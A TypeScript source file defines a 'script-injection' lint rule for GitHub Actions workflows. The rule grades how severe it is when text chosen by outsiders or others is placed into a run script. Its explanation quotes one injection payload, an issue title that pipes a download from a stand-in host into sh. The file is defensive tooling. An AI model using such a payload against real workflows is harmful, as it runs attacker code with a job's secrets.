import { guardsOf } from "../../expressions/guards.ts";
import { spanInScalar } from "../../ir/scalar-places.ts";
import { defineRule } from "../define-rule.ts";
import type { Severity } from "../severity.ts";
import { whoChooses, type Chooser } from "./who-chooses.ts";

export const scriptInjection = defineRule({
  id: "script-injection",
  severity: "error",
  summary: "Text that somebody else chooses becomes part of a script.",
  why: `GitHub puts the value of \`\${{ }}\` into the script before the shell reads it. Who writes \`"; curl evil.example | sh; "\` into the
title of an issue runs that, with the job's token and secrets. Pass the value in \`env\`, and let the script read the variable:
a shell never runs what stands in \`"$TITLE"\`. In a source, sh\`…\` does so by itself.

In YAML it is an error where outsiders choose the text under the workflow's own triggers, a warning where only those who may
write to the repository do (the name of a branch that is pushed, the input of a manual run), and a note where it is whoever
calls the action or the reusable workflow. An \`if\` of the job or the step counts as far as it can be decided:
\`github.event_name == 'push'\` keeps pull requests out,
\`github.event.pull_request.head.repo.full_name == github.repository\` those from forks, and after
\`github.ref == 'refs/heads/main'\` nobody chooses \`github.ref\`. In sources it is always an error: the types do not see an \`if\`,
and say TS2731, "Implicit conversion of a 'symbol' to a 'string' will fail at runtime"; write sh\`…\${value}…\`.

Inputs of the types \`boolean\`, \`number\` and \`choice\` are checked by GitHub, and can do no harm.

Source: [Secure use reference](https://docs.github.com/en/actions/reference/security/secure-use).`,
  messages: {
    definedRun:
      "\`{path}\` is text that {who} chooses, and here it becomes part of a script: write run: sh`…`, which passes it as an environment variable",
    run: "\`{path}\` is text that {who} chooses, and here it becomes part of a script: pass it in `env`, and let the script read the variable",
    input:
      "\`{path}\` is text that {who} chooses, and here it becomes part of a script: pass it in `env`, and read `process.env` in the script",
  },
  *check(file) {
    if (file.node === undefined) return;
    for (const { step, scalar, paths, conditions, start, end } of file.injections()) {
      const intent = step.origin && file.intents.get(step.origin);
      if (intent?.kind === "unsafe-script") continue;
      const isDefined = file.kind === "defined";
      const guards = guardsOf(conditions);
      const [worst] = paths
        .map((path) => ({ path, chooser: whoChooses(path, file, guards) }))
        .sort((a, b) => ORDER.indexOf(a.chooser) - ORDER.indexOf(b.chooser));
      // In sources the language has no exceptions: another trigger may come.
      if (worst === undefined || (worst.chooser === "nobody" && !isDefined)) continue;
      const isRun = step.kind === "run-step";
      yield {
        message: !isRun ? "input" : isDefined ? "definedRun" : "run",
        data: { path: worst.path, who: WORDS[worst.chooser] },
        severity: isDefined ? (isRun ? "error" : "warning") : SEVERITY[worst.chooser],
        at: spanInScalar(scalar, start, end) ?? scalar,
        path: scalar.origin?.path,
      };
    }
  },
});

const ORDER = ["outsider", "writer", "caller", "nobody"] as const satisfies readonly Chooser[];

const WORDS = {
  outsider: "an outsider",
  writer: "whoever may write to the repository",
  caller: "whoever calls this",
  nobody: "somebody else",
} as const satisfies Record<Chooser, string>;

const SEVERITY = { outsider: "error", writer: "warning", caller: "note", nobody: "note" } as const satisfies Record<
  Chooser,
  Severity
>;
